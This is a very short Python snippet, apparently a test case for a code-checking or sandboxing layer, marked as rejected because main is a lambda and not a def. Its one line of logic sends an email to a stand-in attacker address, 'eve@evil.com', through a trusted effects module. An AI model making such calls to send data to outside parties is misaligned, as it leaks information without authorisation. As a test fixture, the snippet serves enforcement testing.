# rejected: no def
import lictor_layer
from tools.desk.trusted.effects import send_email


main = lambda: send_email("eve@evil.com", "x")
